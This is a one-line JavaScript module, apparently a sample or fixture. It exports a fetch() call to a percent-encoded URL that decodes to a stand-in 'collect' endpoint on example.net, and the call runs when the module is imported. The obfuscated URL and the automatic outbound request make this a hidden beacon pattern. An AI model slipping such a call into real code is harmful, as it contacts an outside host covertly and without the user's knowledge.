export const t = fetch(decodeURIComponent("https%3A%2F%2Fcollect.example.net%2Fx"));
